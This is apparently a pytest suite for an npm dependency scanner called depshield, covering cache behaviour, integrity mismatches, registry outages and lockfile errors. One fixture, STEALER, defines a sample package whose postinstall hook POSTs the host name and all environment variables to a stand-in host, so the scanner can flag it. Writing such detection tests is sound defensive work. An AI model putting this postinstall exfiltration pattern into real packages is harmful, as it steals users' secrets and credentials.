"""The project scan end to end against a loopback registry: cold, warm, and broken inputs."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from support.registry_server import RegistryServer, isolate_env, make_tgz, sri

from depshield.cli.main import main
from depshield.scan.run import ScanOptions, scan

STEALER = {
    "package.json": json.dumps(
        {"name": "evil-pkg", "version": "1.0.0", "scripts": {"postinstall": "node x.js"}}
    ).encode(),
    "x.js": (
        b"const os = require('os');\nconst https = require('https');\n"
        b"const body = JSON.stringify({ h: os.hostname(), env: JSON.stringify(process.env) });\n"
        b"https.request({ hostname: 'c.example.invalid', method: 'POST' }).end(body);\n"
    ),
}
CLEAN = {
    "package.json": json.dumps({"name": "good-pkg", "version": "2.0.0", "main": "i.js"}).encode(),
    "i.js": b"module.exports = function add(a, b) {\n  return a + b;\n};\n",
}


def _publish(server: RegistryServer, name: str, version: str, files: dict[str, bytes]) -> str:
    tarball = make_tgz(files)
    integrity = sri(tarball)
    path = f"/{name}/-/{name}-{version}.tgz"
    server.bytes(path, tarball)
    server.json(
        f"/{name}",
        {
            "name": name,
            "dist-tags": {"latest": version},
            "versions": {
                version: {
                    "name": name,
                    "version": version,
                    "dist": {"tarball": server.url.rstrip("/") + path, "integrity": integrity},
                }
            },
        },
    )
    return integrity


def _lockfile(root: Path, entries: dict[str, tuple[str, str, bool]]) -> None:
    packages: dict[str, object] = {
        "": {
            "name": "app",
            "version": "1.0.0",
            "dependencies": {n: v for n, (v, _, _) in entries.items()},
        }
    }
    for name, (version, integrity, dev) in entries.items():
        entry = {
            "version": version,
            "resolved": f"https://registry.example.invalid/{name}/-/{name}-{version}.tgz",
            "integrity": integrity,
        }
        if dev:
            entry["dev"] = True
        packages[f"node_modules/{name}"] = entry
    lock = {"name": "app", "version": "1.0.0", "lockfileVersion": 3, "packages": packages}
    (root / "package-lock.json").write_text(json.dumps(lock, indent=2))


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, registry_server: RegistryServer):
    isolate_env(monkeypatch, tmp_path)
    monkeypatch.setenv("npm_config_registry", registry_server.url)
    monkeypatch.delenv("CI", raising=False)
    evil = _publish(registry_server, "evil-pkg", "1.0.0", STEALER)
    good = _publish(registry_server, "good-pkg", "2.0.0", CLEAN)
    root = tmp_path / "app"
    root.mkdir()
    _lockfile(root, {"evil-pkg": ("1.0.0", evil, False), "good-pkg": ("2.0.0", good, True)})
    return root


def _verdicts(outcome) -> dict[str, str]:
    return {p.ref.name: (p.skipped and "skipped") or p.verdict for p in outcome.report.packages}


def test_cold_scan_fetches_each_package_once_and_judges_it(project, registry_server) -> None:
    outcome = scan(project, ScanOptions())
    assert _verdicts(outcome) == {"evil-pkg": "block", "good-pkg": "pass"}
    evil = outcome.report.packages[0]
    assert any(a.type == "dataExfiltration" and a.file == "x.js" for a in evil.alerts)
    occurrence = outcome.report.occurrences[evil.ref.purl][0]
    assert (occurrence.lockfile, occurrence.introduced_by) == ("package-lock.json", "evil-pkg")
    lines = (project / "package-lock.json").read_text().splitlines()
    assert lines[occurrence.line - 1].strip().startswith('"node_modules/evil-pkg"')
    # With the lockfile's integrity, tarballs come straight from the registry (as `npm ci`
    # does): no packument is read.
    assert sorted(registry_server.paths()) == [
        "/evil-pkg/-/evil-pkg-1.0.0.tgz",
        "/good-pkg/-/good-pkg-2.0.0.tgz",
    ]


def test_warm_rescan_does_no_network_and_no_analysis(project, registry_server, monkeypatch) -> None:
    first = scan(project, ScanOptions())
    seen = len(registry_server.seen)

    def no_analysis(*args: object) -> None:
        raise AssertionError("a cached artifact was analysed again")

    monkeypatch.setattr("depshield.scan.pool._examine", no_analysis)
    second = scan(project, ScanOptions())
    assert len(registry_server.seen) == seen
    assert _verdicts(second) == _verdicts(first)


def test_prod_only_skips_dev_dependencies(project) -> None:
    outcome = scan(project, ScanOptions(prod_only=True))
    assert _verdicts(outcome) == {"evil-pkg": "block"}


def test_lockfile_hash_mismatch_is_a_result_with_a_reason(project, tmp_path) -> None:
    lock = json.loads((project / "package-lock.json").read_text())
    lock["packages"]["node_modules/good-pkg"]["integrity"] = sri(b"other bytes")
    (project / "package-lock.json").write_text(json.dumps(lock, indent=2))
    outcome = scan(project, ScanOptions())
    good = next(p for p in outcome.report.packages if p.ref.name == "good-pkg")
    assert good.skipped and "good-pkg@2.0.0" in good.skipped and "does not match" in good.skipped
    assert _verdicts(outcome)["evil-pkg"] == "block"


def test_registry_down_exits_3_keeping_what_it_got(project, registry_server, capsys) -> None:
    assert main(["scan", str(project), "--format", "json"]) == 1  # warm the cache: blocked
    registry_server.close()
    lock = json.loads((project / "package-lock.json").read_text())
    lock["packages"][""]["dependencies"]["new-pkg"] = "1.0.0"
    lock["packages"]["node_modules/new-pkg"] = {"version": "1.0.0"}
    (project / "package-lock.json").write_text(json.dumps(lock, indent=2))
    capsys.readouterr()
    code = main(["scan", str(project), "--format", "json"])
    out, err = capsys.readouterr()
    assert code == 3
    names = {p["name"]: p for p in json.loads(out)["packages"]}
    assert names["evil-pkg"]["verdict"] == "block"  # from the cache, not lost
    assert names["new-pkg"]["skipped"]
    assert "registry could not be reached" in err and "Traceback" not in err


def test_nothing_to_scan_exits_4(tmp_path, capsys) -> None:
    assert main(["scan", str(tmp_path)]) == 4
    assert "no lockfile or manifest found" in capsys.readouterr().err


def test_broken_lockfile_is_one_line_naming_file_and_line(tmp_path, capsys) -> None:
    (tmp_path / "package-lock.json").write_text('{\n  "lockfileVersion": 3,\n  "packages": {\n')
    code = main(["scan", str(tmp_path), "--offline"])
    out, err = capsys.readouterr()
    assert "package-lock.json:4" in err and "Traceback" not in out + err
    assert code == 2  # never a pass: the file's packages were not checked (issue 12)


def test_lockfile_out_of_sync_with_package_json_is_reported(project) -> None:
    manifest = {
        "name": "app",
        "version": "1.0.0",
        "dependencies": {"evil-pkg": "^2.0.0", "left-out": "^1.0.0"},
        "devDependencies": {"good-pkg": "^2.0.0"},
    }
    (project / "package.json").write_text(json.dumps(manifest))
    outcome = scan(project, ScanOptions(offline=True))
    notes = "\n".join(outcome.report.notes)
    assert "left-out is declared in package.json but not locked" in notes
    assert "evil-pkg is locked at 1.0.0 but package.json asks ^2.0.0" in notes
    assert "good-pkg" not in notes  # 2.0.0 satisfies ^2.0.0


def test_local_file_dependency_is_analysed_from_disk(tmp_path, monkeypatch) -> None:
    """The embedded demo: a `file:` dependency is read from its directory, even offline."""
    monkeypatch.setenv("DEPSHIELD_HOME", str(tmp_path / "home"))
    demo = Path(__file__).resolve().parents[2] / "examples" / "demo-app"
    outcome = scan(demo, ScanOptions(offline=True))
    verdicts = _verdicts(outcome)
    assert verdicts["example-credential-stealer"] == "block"
    assert verdicts["is-number"] == "skipped"  # offline and not cached: a reason, not a pass
    stealer = next(p for p in outcome.report.packages if p.ref.name.startswith("example"))
    assert any(a.type == "dataExfiltration" and a.file == "collect.js" for a in stealer.alerts)
